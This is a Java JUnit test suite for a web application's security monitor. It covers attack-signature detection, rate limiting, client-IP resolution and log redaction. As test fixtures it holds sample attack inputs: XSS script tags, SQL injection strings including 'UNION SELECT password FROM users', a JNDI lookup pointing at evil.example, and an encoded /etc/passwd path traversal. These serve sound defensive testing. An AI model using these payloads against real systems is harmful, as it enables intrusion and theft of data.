package dev.faultline.internal.security;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import dev.faultline.error.ErrorType;
import dev.faultline.error.FaultlineException;
import dev.faultline.error.RateLimitedException;
import dev.faultline.http.RequestView;
import dev.faultline.security.AttackCategory;
import dev.faultline.security.FakeRequest;
import dev.faultline.security.ScanReport;
import dev.faultline.security.SecurityConfig;
import dev.faultline.security.SecurityStats;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.concurrent.atomic.AtomicLong;
import java.util.function.Consumer;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.slf4j.LoggerFactory;
import org.slf4j.event.KeyValuePair;

@DisplayName("The security monitor")
class SecurityMonitorTest {

    static final String A = "198.51.100.1";
    static final String B = "198.51.100.2";

    /** A fake monotonic clock for the rate limiter. */
    final AtomicLong nanos = new AtomicLong(5_000_000_000L);

    final ListAppender<ILoggingEvent> appender = new ListAppender<>();
    Logger logger;
    Level previousLevel;

    @BeforeEach
    void attach() {
        logger = (Logger) LoggerFactory.getLogger("faultline.security");
        previousLevel = logger.getLevel();
        logger.setLevel(Level.TRACE);
        appender.start();
        logger.addAppender(appender);
    }

    @AfterEach
    void detach() {
        logger.detachAppender(appender);
        appender.stop();
        logger.setLevel(previousLevel);
    }

    SecurityMonitor monitor(Consumer<SecurityConfig.Builder> configure) {
        SecurityConfig.Builder b = SecurityConfig.builder();
        configure.accept(b);
        return new SecurityMonitor(b.build(), nanos::get);
    }

    /** Signatures only, no rate limit. */
    SecurityMonitor signaturesOnly(SecurityConfig.Mode mode) {
        return monitor(b -> b.rateLimit(false).signatureMode(mode));
    }

    /** A rate limit only, no signatures. */
    SecurityMonitor rateOnly(int perMinute, SecurityConfig.Mode mode) {
        return monitor(b -> b.signatures(false).maxRequestsPerMinute(perMinute).rateLimitMode(mode));
    }

    static FakeRequest xss() {
        return FakeRequest.get("/search").query("q=%3Cscript%3Ealert(1)%3C/script%3E");
    }

    static FakeRequest clean() {
        return FakeRequest.get("/videos/42").query("page=2").header("User-Agent", "curl/8.5.0");
    }

    FaultlineException admit(SecurityMonitor m, RequestView r, String ip) {
        return m.admit(r, ip, "req-1");
    }

    static Map<String, Object> keyValues(ILoggingEvent event) {
        Map<String, Object> out = new LinkedHashMap<>();
        List<KeyValuePair> pairs = event.getKeyValuePairs();
        if (pairs != null) {
            for (KeyValuePair p : pairs) {
                out.put(p.key, p.value);
            }
        }
        return out;
    }

    @SuppressWarnings("unchecked")
    static List<Map<String, Object>> issues(ILoggingEvent event) {
        return (List<Map<String, Object>>) keyValues(event).get("issues");
    }

    static long num(Object o) {
        return ((Number) o).longValue();
    }

    @SuppressWarnings("unchecked")
    static Map<String, Object> map(Object o) {
        return (Map<String, Object>) o;
    }

    /** Fails if any key value or the message of any captured event contains one of {@code fragments}. */
    void assertLogsNone(String... fragments) {
        assertFalse(appender.list.isEmpty(), "expected events on faultline.security");
        for (ILoggingEvent e : appender.list) {
            StringBuilder all = new StringBuilder(e.getFormattedMessage());
            keyValues(e).forEach((k, v) -> all.append(' ').append(k).append('=').append(v));
            String text = all.toString().toLowerCase(Locale.ROOT);
            for (String f : fragments) {
                assertFalse(text.contains(f.toLowerCase(Locale.ROOT)),
                        () -> "the log event carries the offending value '" + f + "': " + all);
            }
        }
    }

    @Nested
    @DisplayName("attack signatures")
    class Signatures {

        @Test
        @DisplayName("in DETECT mode admit the request, count and log the finding")
        void detect() {
            SecurityMonitor m = signaturesOnly(SecurityConfig.Mode.DETECT);
            assertNull(admit(m, xss(), A));
            assertEquals(1, m.findings(AttackCategory.XSS));
            assertEquals(0, m.stats().blockedRequests());
            assertEquals(1, appender.list.size());
            ILoggingEvent e = appender.list.get(0);
            assertEquals(Level.WARN, e.getLevel());
            assertEquals("security issues detected", e.getMessage());
            assertEquals("logged", keyValues(e).get("action"));
        }

        @Test
        @DisplayName("in BLOCK mode refuse with a 403 AUTHORIZATION problem whose public detail names no rule")
        void block() {
            SecurityMonitor m = signaturesOnly(SecurityConfig.Mode.BLOCK);
            FaultlineException refusal = admit(m, xss(), A);
            assertNotNull(refusal);
            assertFalse(refusal instanceof RateLimitedException);
            assertEquals(ErrorType.AUTHORIZATION, refusal.type());
            assertEquals(403, refusal.status());
            String detail = refusal.publicDetail().toLowerCase(Locale.ROOT);
            for (String secret : List.of("xss", "script", "rule", "sqli", "signature", "q=")) {
                assertFalse(detail.contains(secret), () -> "public detail names '" + secret + "': " + detail);
            }
            assertEquals(1, m.findings(AttackCategory.XSS));
            assertEquals(1, m.stats().blockedRequests());
            assertEquals("blocked", keyValues(appender.list.get(0)).get("action"));
        }

        @Test
        @DisplayName("in BLOCK mode admit a clean request and log nothing")
        void cleanAdmitted() {
            SecurityMonitor m = signaturesOnly(SecurityConfig.Mode.BLOCK);
            assertNull(admit(m, clean(), A));
            assertEquals(0, m.stats().findings());
            assertTrue(appender.list.isEmpty());
        }

        @Test
        @DisplayName("switched off, neither scan nor count")
        void off() {
            SecurityMonitor m = monitor(b -> b.rateLimit(false).signatures(false).signatureMode(SecurityConfig.Mode.BLOCK));
            assertNull(admit(m, xss(), A));
            assertEquals(0, m.stats().findings());
            assertFalse(m.check(xss()).hasIssues());
            assertTrue(appender.list.isEmpty());
        }
    }

    @Nested
    @DisplayName("the rate limit")
    class RateLimit {

        @Test
        @DisplayName("in BLOCK mode refuse with a 429 RateLimitedException with a Retry-After of at least a second")
        void block() {
            SecurityMonitor m = rateOnly(2, SecurityConfig.Mode.BLOCK);
            assertNull(admit(m, clean(), A));
            assertNull(admit(m, clean(), A));
            FaultlineException refusal = admit(m, clean(), A);
            RateLimitedException limited = assertInstanceOf(RateLimitedException.class, refusal);
            assertEquals(429, limited.status());
            assertEquals(ErrorType.RATE_LIMITED, limited.type());
            Duration retry = limited.retryAfter().orElseThrow();
            assertTrue(retry.compareTo(Duration.ofSeconds(1)) >= 0, retry::toString);
            assertEquals(Duration.ofSeconds(30), retry, "one token every 30 s at 2 per minute");
            assertEquals(1, m.findings(AttackCategory.RATE_LIMIT));
            assertEquals(1, m.stats().blockedRequests());

            ILoggingEvent e = appender.list.get(0);
            assertEquals("rate limit exceeded", e.getMessage());
            Map<String, Object> kv = keyValues(e);
            assertEquals("blocked", kv.get("action"));
            assertEquals(30L, num(kv.get("retry_after_s")));
            assertEquals(List.of(Map.of("rule_id", "rate.limit-exceeded", "category", "rate_limit", "location", "client")),
                    issues(e));

            nanos.addAndGet(Duration.ofSeconds(30).toNanos());
            assertNull(admit(m, clean(), A), "a token is back after 30 s");
            assertNotNull(admit(m, clean(), A));
        }

        @Test
        @DisplayName("a retry-after under a second is rounded up to one second")
        void retryAfterAtLeastOneSecond() {
            SecurityMonitor m = rateOnly(6_000, SecurityConfig.Mode.BLOCK); // a token every 10 ms
            for (int i = 0; i < 6_000; i++) {
                assertNull(admit(m, clean(), A));
            }
            FaultlineException refusal = admit(m, clean(), A);
            assertEquals(Duration.ofSeconds(1), refusal.retryAfter().orElseThrow());
        }

        @Test
        @DisplayName("in DETECT mode admit, but count and log")
        void detect() {
            SecurityMonitor m = rateOnly(1, SecurityConfig.Mode.DETECT);
            assertNull(admit(m, clean(), A));
            assertNull(admit(m, clean(), A));
            assertNull(admit(m, clean(), A));
            assertEquals(2, m.findings(AttackCategory.RATE_LIMIT));
            assertEquals(0, m.stats().blockedRequests());
            assertEquals(2, appender.list.size());
            assertEquals("logged", keyValues(appender.list.get(0)).get("action"));
        }

        @Test
        @DisplayName("keeps one bucket per client IP")
        void perIp() {
            SecurityMonitor m = rateOnly(1, SecurityConfig.Mode.BLOCK);
            assertNull(admit(m, clean(), A));
            assertNull(admit(m, clean(), B));
            assertNotNull(admit(m, clean(), A));
            assertNotNull(admit(m, clean(), B));
            assertEquals(2, m.stats().rateLimitedClientsTracked());
            assertEquals(1, m.stats().rateLimitPerMinute());
        }

        @Test
        @DisplayName("keeps one bucket per custom key, whatever the IP")
        void customKey() {
            SecurityMonitor m = monitor(b -> b.signatures(false).maxRequestsPerMinute(2)
                    .rateLimitKey(r -> r.header("X-Api-Key")));
            assertNull(admit(m, clean().header("X-Api-Key", "k1"), A));
            assertNull(admit(m, clean().header("X-Api-Key", "k1"), B));
            assertNotNull(admit(m, clean().header("X-Api-Key", "k1"), "203.0.113.3"), "k1 spent from three IPs");
            assertNull(admit(m, clean().header("X-Api-Key", "k2"), A), "k2 has its own bucket");
            // null from the key function falls back to the IP
            assertNull(admit(m, clean(), A));
            assertNull(admit(m, clean(), A));
            assertNotNull(admit(m, clean(), A));
            assertNull(admit(m, clean(), B));
        }

        @Test
        @DisplayName("falls back to the client IP when the key function throws")
        void throwingKey() {
            SecurityMonitor m = monitor(b -> b.signatures(false).maxRequestsPerMinute(1).rateLimitKey(r -> {
                throw new IllegalStateException("tenant lookup failed");
            }));
            assertNull(admit(m, clean(), A));
            assertInstanceOf(RateLimitedException.class, admit(m, clean(), A));
            assertNull(admit(m, clean(), B), "B has its own bucket, so the fallback key is the IP");
            assertInstanceOf(RateLimitedException.class, admit(m, clean(), B));
        }

        @Test
        @DisplayName("logs a key function that throws instead of swallowing it silently (DESIGN §8)")
        void throwingKeyLogged() {
            SecurityMonitor m = monitor(b -> b.signatures(false).maxRequestsPerMinute(10).rateLimitKey(r -> {
                throw new IllegalStateException("tenant lookup failed");
            }));
            assertNull(admit(m, clean(), A));
            assertTrue(appender.list.stream().anyMatch(e -> e.getLevel().isGreaterOrEqual(Level.WARN)),
                    "a failing rateLimitKey function left no trace on faultline.security");
        }

        @Test
        @DisplayName("switched off, never refuses")
        void off() {
            SecurityMonitor m = monitor(b -> b.signatures(false).rateLimit(false).maxRequestsPerMinute(1));
            for (int i = 0; i < 10; i++) {
                assertNull(admit(m, clean(), A));
            }
            assertEquals(0, m.stats().findings());
            assertEquals(0, m.stats().rateLimitPerMinute());
            assertFalse(m.stats().rateLimited());
        }
    }

    @Nested
    @DisplayName("check(request)")
    class Check {

        @Test
        @DisplayName("returns the report but counts nothing, logs nothing and takes no rate-limit token")
        void countsNothing() {
            SecurityMonitor m = monitor(b -> b.maxRequestsPerMinute(1).signatureMode(SecurityConfig.Mode.BLOCK));
            for (int i = 0; i < 5; i++) {
                ScanReport r = m.check(xss().from(A));
                assertTrue(r.has(AttackCategory.XSS));
                assertEquals(1, r.issuesFound());
                assertEquals(List.of(List.of("xss.script-tag", "xss", "query:q")), r.issues().stream()
                        .map(f -> List.of(f.ruleId(), f.category().id(), f.location())).toList());
            }
            assertEquals(0, m.stats().findings());
            assertEquals(0, m.findings(AttackCategory.XSS));
            assertTrue(appender.list.isEmpty());
            assertNull(admit(m, clean(), A), "the one token is still there");
            assertInstanceOf(RateLimitedException.class, admit(m, clean(), A));
        }

        @Test
        @DisplayName("gives an empty report for a clean request")
        void cleanRequest() {
            SecurityMonitor m = monitor(b -> { });
            ScanReport r = m.check(clean());
            assertEquals(0, r.issuesFound());
            assertEquals(List.of(), r.issues());
        }
    }

    @Nested
    @DisplayName("stats()")
    class Stats {

        @Test
        @DisplayName("counts findings by category, and requests refused")
        void byCategory() {
            SecurityMonitor m = monitor(b -> b.maxRequestsPerMinute(3).rateLimitMode(SecurityConfig.Mode.DETECT));
            admit(m, xss(), A);
            admit(m, FakeRequest.get("/search").query("q=%3Cscript%3E&id=1%20or%201%3D1"), A);
            admit(m, FakeRequest.get("/").header("User-Agent", "${jndi:ldap://evil.example/a}"), A);
            admit(m, clean(), A); // over the limit: detected
            SecurityStats s = m.stats();
            assertEquals(List.of(AttackCategory.values()), List.copyOf(s.byCategory().keySet()), "every category");
            assertEquals(2, s.findings(AttackCategory.XSS));
            assertEquals(1, s.findings(AttackCategory.SQL_INJECTION));
            assertEquals(1, s.findings(AttackCategory.JNDI_LOOKUP));
            assertEquals(1, s.findings(AttackCategory.RATE_LIMIT));
            assertEquals(0, s.findings(AttackCategory.PATH_TRAVERSAL));
            assertEquals(5, s.findings());
            assertEquals(0, s.blockedRequests());
            assertEquals(3, s.rateLimitPerMinute());
            assertEquals(1, s.rateLimitedClientsTracked());
        }
    }

    @Nested
    @DisplayName("log events on faultline.security")
    class Logging {

        @Test
        @DisplayName("carry request_id, ip_address and the issues' rule ids, categories and locations")
        void fields() {
            SecurityMonitor m = signaturesOnly(SecurityConfig.Mode.DETECT);
            m.admit(FakeRequest.get("/search").query("q=%3Cscript%3Ealert(1)%3C/script%3E&id=1%20or%201%3D1")
                    .header("User-Agent", "${jndi:ldap://evil.example/a}"), A, "req-42");
            assertEquals(1, appender.list.size());
            ILoggingEvent e = appender.list.get(0);
            Map<String, Object> kv = keyValues(e);
            assertEquals("req-42", kv.get("request_id"));
            assertEquals(A, kv.get("ip_address"));
            assertEquals(3L, num(kv.get("issues_found")));
            assertEquals(List.of(
                    Map.of("rule_id", "xss.script-tag", "category", "xss", "location", "query:q"),
                    Map.of("rule_id", "sqli.tautology", "category", "sql_injection", "location", "query:id"),
                    Map.of("rule_id", "jndi.lookup", "category", "jndi_lookup", "location", "header:User-Agent")),
                    issues(e));
            assertTrue(kv.get("issues").toString().startsWith("[{\"rule_id\":"), "issues render as JSON");
        }

        @Test
        @DisplayName("never carry the offending value of a query parameter or header")
        void noValueFromQueryOrHeader() {
            SecurityMonitor m = signaturesOnly(SecurityConfig.Mode.BLOCK);
            m.admit(FakeRequest.get("/search").query("q=%3Cscript%3Ealert(1)%3C/script%3E&id=1%20or%201%3D1")
                    .header("User-Agent", "${jndi:ldap://evil.example/a}")
                    .header("Referer", "https://example.com/?x=%3Ciframe%20src%3Dx%3E"), A, "req-1");
            assertLogsNone("<script", "%3Cscript", "alert(", "1=1", "1%3D1", "${jndi", "evil.example", "ldap://",
                    "iframe src", "%3Ciframe");
        }

        @Test
        @DisplayName("never carry the offending value when the attack is in the path")
        void noValueFromPath() {
            SecurityMonitor m = signaturesOnly(SecurityConfig.Mode.DETECT);
            m.admit(FakeRequest.get("/static/%2e%2e/%2e%2e/etc/passwd"), A, "req-1");
            assertEquals(List.of("path"), issues(appender.list.get(0)).stream().map(i -> i.get("location")).distinct().toList());
            assertLogsNone("etc/passwd", "%2e%2e");
        }

        @Test
        @DisplayName("never carry the offending value of a body")
        void noValueFromBody() {
            SecurityMonitor m = signaturesOnly(SecurityConfig.Mode.DETECT);
            m.inspectBody(FakeRequest.get("/comments"), A, "req-1", "{\"text\":\"<script>alert('pwned')</script>\"}");
            assertLogsNone("<script", "pwned", "alert(");
        }
    }

    @Nested
    @DisplayName("client IP")
    class ClientIp {

        @Test
        @DisplayName("is X-Forwarded-For's only behind a trusted proxy, else the peer")
        void trustedProxies() {
            SecurityMonitor m = monitor(b -> b.trustedProxies("10.0.0.0/8"));
            assertEquals("203.0.113.7",
                    m.clientIp(FakeRequest.get("/").from("10.1.2.3").header("X-Forwarded-For", "203.0.113.7")));
            assertEquals("198.51.100.9",
                    m.clientIp(FakeRequest.get("/").from("198.51.100.9").header("X-Forwarded-For", "203.0.113.7")));
            assertEquals("10.1.2.3", m.clientIp(FakeRequest.get("/").from("10.1.2.3")));
        }

        @Test
        @DisplayName("is the peer when no proxy is trusted")
        void noTrustedProxy() {
            SecurityMonitor m = monitor(b -> { });
            assertEquals("10.1.2.3",
                    m.clientIp(FakeRequest.get("/").from("10.1.2.3").header("X-Forwarded-For", "203.0.113.7")));
        }

        @Test
        @DisplayName("behind a trusted proxy, clients forwarded by it get their own rate-limit buckets")
        void bucketsBehindProxy() {
            SecurityMonitor m = monitor(b -> b.signatures(false).maxRequestsPerMinute(1).trustedProxies("10.0.0.1"));
            RequestView first = FakeRequest.get("/").from("10.0.0.1").header("X-Forwarded-For", "203.0.113.1");
            RequestView second = FakeRequest.get("/").from("10.0.0.1").header("X-Forwarded-For", "203.0.113.2");
            assertNull(m.admit(first, m.clientIp(first), "r1"));
            assertNull(m.admit(second, m.clientIp(second), "r2"));
            assertNotNull(m.admit(first, m.clientIp(first), "r3"));
        }
    }

    @Nested
    @DisplayName("inspectBody")
    class InspectBody {

        @Test
        @DisplayName("detects in a body, at location body only, and never blocks even in BLOCK mode")
        void detectsNeverBlocks() {
            SecurityMonitor m = signaturesOnly(SecurityConfig.Mode.BLOCK);
            m.inspectBody(FakeRequest.get("/static/%2e%2e/etc/passwd").query("q=%3Cscript%3E"), A, "req-7",
                    "name=x&comment=1' UNION SELECT password FROM users --");
            assertEquals(1, m.findings(AttackCategory.SQL_INJECTION));
            assertEquals(0, m.findings(AttackCategory.XSS), "the query is not the body");
            assertEquals(0, m.findings(AttackCategory.PATH_TRAVERSAL), "the path is not the body");
            assertEquals(0, m.stats().blockedRequests());
            assertEquals(1, appender.list.size());
            ILoggingEvent e = appender.list.get(0);
            Map<String, Object> kv = keyValues(e);
            assertEquals("logged", kv.get("action"));
            assertEquals("req-7", kv.get("request_id"));
            assertTrue(issues(e).stream().allMatch(i -> "body".equals(i.get("location"))), () -> issues(e).toString());
        }

        @Test
        @DisplayName("does nothing for a clean body, or when body scanning is off")
        void cleanBodyOrOff() {
            SecurityMonitor m = signaturesOnly(SecurityConfig.Mode.DETECT);
            m.inspectBody(clean(), A, "r", "{\"title\":\"O'Brien's union\"}");
            SecurityMonitor off = monitor(b -> b.rateLimit(false).scanBodies(false));
            off.inspectBody(clean(), A, "r", "<script>alert(1)</script>");
            assertEquals(0, m.stats().findings());
            assertEquals(0, off.stats().findings());
            assertTrue(appender.list.isEmpty());
        }
    }

    @Test
    @DisplayName("stats: every category counted, the limit as configured")
    void statsFromMonitor() {
        SecurityMonitor m = new SecurityMonitor(SecurityConfig.builder().maxRequestsPerMinute(7).build(), System::nanoTime);
        SecurityStats s = m.stats();
        assertEquals(List.of(AttackCategory.values()), List.copyOf(s.byCategory().keySet()));
        assertEquals(7, s.rateLimitPerMinute());
    }
}
